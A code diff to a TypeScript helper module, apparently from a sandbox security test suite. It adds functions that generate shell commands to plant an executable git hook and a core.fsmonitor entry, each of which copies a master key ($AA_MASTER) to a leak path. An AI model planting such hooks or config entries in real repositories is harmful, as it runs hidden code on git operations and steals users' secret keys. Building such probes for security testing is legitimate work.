@@ -81,3 +81,8 @@ export const tryFn = `try() { n=$1; shift; if ( "$@" ) >/dev/null 2>&1; then ech
 export const fsmonitorConfig = (leak: string, name: string, extra = "") =>
   `[core]\n\trepositoryformatversion = 0\n\tbare = false\n${extra}\tfsmonitor = "cp $AA_MASTER ${join(leak, name)}; echo"\n`;
 
+
+/** Shell: write an executable hook at `path` that copies the master key to `leak`/`name`. */
+export const plantHook = (path: string, leak: string, name: string) => `printf "#!/bin/sh\\ncp \\$AA_MASTER ${leak}/${name}\\n" > ${path} && chmod +x ${path}`;
+/** Shell: append a `core.fsmonitor` copying the master key to `leak`/`name` to the configuration file `path`. */
+export const plantMonitor = (path: string, leak: string, name: string) => `printf "[core]\\n\\tfsmonitor = \\"cp \\$AA_MASTER ${leak}/${name}; echo\\"\\n" >> ${path}`;
